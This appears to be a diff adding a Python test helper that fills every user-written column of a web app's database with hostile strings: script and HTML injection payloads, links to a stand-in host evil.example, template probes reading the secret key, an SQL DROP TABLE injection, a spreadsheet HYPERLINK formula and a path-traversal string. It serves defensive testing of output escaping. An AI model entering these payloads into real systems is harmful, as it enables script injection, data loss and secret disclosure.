@@ -1,0 +1,123 @@
+"""Names and texts that would like to be something else: markup, script, a template, a direction, an empty space."""
+
+from sqlalchemy import JSON, String, Text, bindparam, select, update
+
+from webapp.domain import names
+from webapp.extensions import db
+from webapp.models.member import Member
+
+TEXTS = (
+    "<script>window.hit=1</script>",
+    "<img src=x onerror=window.hit=2>",
+    '"><svg/onload=window.hit=3>',
+    "' onfocus=window.hit=4 autofocus x='",
+    '" autofocus onfocus=window.hit=5 x="',
+    "javascript:window.hit=6",
+    "</title><script>window.hit=7</script>",
+    "</textarea><script>window.hit=8</script>",
+    "<iframe src=//evil.example/frame></iframe>",
+    "<link rel=stylesheet href=//evil.example/a.css>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//evil.example/>",
+    "<form action=//evil.example/><button>Accept</button></form>",
+    "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
+    "<b hx-on:load=window.hit=9 hx-trigger=load>x</b>",
+    "<button popovertarget=me-menu>Menu</button>",
+    "<dialog open>Trust me</dialog>",
+    "<template id=trouble>Nothing wrong</template>",
+    "<div id=toasts hx-swap-oob=true>Nothing wrong</div>",
+    "<style>*{display:none}</style>",
+    "<object data=//evil.example/x></object>",
+    "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=window.hit=10>",
+    "{{ 7*7 }}{% include 'errors/500.html' %}",
+    "{{ config.SECRET_KEY }}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "%(name)s %s %n %d 100% {0} {name}",
+    "&lt;b&gt;&amp;amp;&quot;&#39;&#x3c;",
+    "'; DROP TABLE member; --",
+    '=HYPERLINK("http://evil.example","Click")',
+    "Ana\\u202e\\x00\\r\\nBcc: all@evil.example",
+    "http://evil.example/ Bank support",
+    "//evil.example/%2e%2e/%00",
+    "../../../../etc/passwd",
+    "Ольга Мельник",
+    "田中太郎",
+    "علي أحمد (مهندس)",
+    "🏳️‍🌈 Zoë O’Brien-Ñuñez 👩🏽‍🚀",
+    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
+    "Wolfeschlegelsteinhausenbergerdorffwelchevoralternwarengewissenhaft",
+    "x" * 60 + " <u>" + "y" * 30,
+)
+
+WRITTEN = {
+    "guest_invitation": {"name"},
+    "member": {"name", "headline", "organisation", "title", "tags", "place", "cohort", "about"},
+    "relationship": {"low_note", "high_note"},
+    "report": {"text", "note"},
+    "sign_in": {"agent"},
+}
+"""What people write: table -> columns. A list of texts, where the column is JSON."""
+
+OURS = {
+    "address_book_import": {"door", "state", "failure"},
+    "batch": {"key"},
+    "email_address": {"address", "lookup"},
+    "guest_address": {"lookup", "link_digest"},
+    "guest_invitation": {"key", "lookup", "address", "state", "quiet_reason", "facts"},
+    "import_part": {"kind"},
+    "lease": {"name", "holder"},
+    "mailbox_message": {"recipient", "subject"},
+    "member": {
+        "handle", "sort_as", "name_key", "sort_key", "search_text", "password_hash", "field", "links", "photo", "findable",
+    },
+    "notification": {"kind", "about"},
+    "outgoing_mail": {"kind", "facts", "state", "reason"},
+    "photo": {"name"},
+    "relationship": {"state", "undo_state"},
+    "report": {"reason"},
+    "sign_in": {"digest"},
+    "throttle": {"key"},
+    "ticket": {"digest", "purpose", "payload"},
+}  # fmt: skip
+"""What we write, or check so closely that nothing of this kind can stand in it."""
+
+
+def text_columns():
+    """Every column that could hold a text, as table -> names."""
+    return {
+        table.name: {
+            column.name
+            for column in table.columns
+            if isinstance(column.type, String | Text | JSON) and not column.foreign_keys
+        }
+        for table in db.metadata.sorted_tables
+    }
+
+
+def write_everywhere():
+    """Let everything that people wrote be one of these texts, each row the next one."""
+    for name, columns in WRITTEN.items():
+        table = db.metadata.tables[name]
+        keys = list(table.primary_key.columns)
+        rows = db.session.execute(select(*keys).order_by(*keys)).all()
+        if not rows:
+            continue
+        changes = []
+        for number, row in enumerate(rows):
+            change = {f"key_{key.name}": value for key, value in zip(keys, row, strict=True)}
+            for place, column in enumerate(sorted(columns)):
+                text = TEXTS[(number + place) % len(TEXTS)]
+                change[f"new_{column}"] = (
+                    [text]
+                    if isinstance(table.columns[column].type, JSON)
+                    else text[: table.columns[column].type.length]
+                )
+            changes.append(change)
+        statement = update(table).values({column: bindparam(f"new_{column}") for column in columns})
+        for key in keys:
+            statement = statement.where(key == bindparam(f"key_{key.name}"))
+        db.session.connection().execute(statement, changes)
+    db.session.expire_all()
+    for member in db.session.scalars(select(Member)):
+        names.refresh(member)
+    db.session.commit()
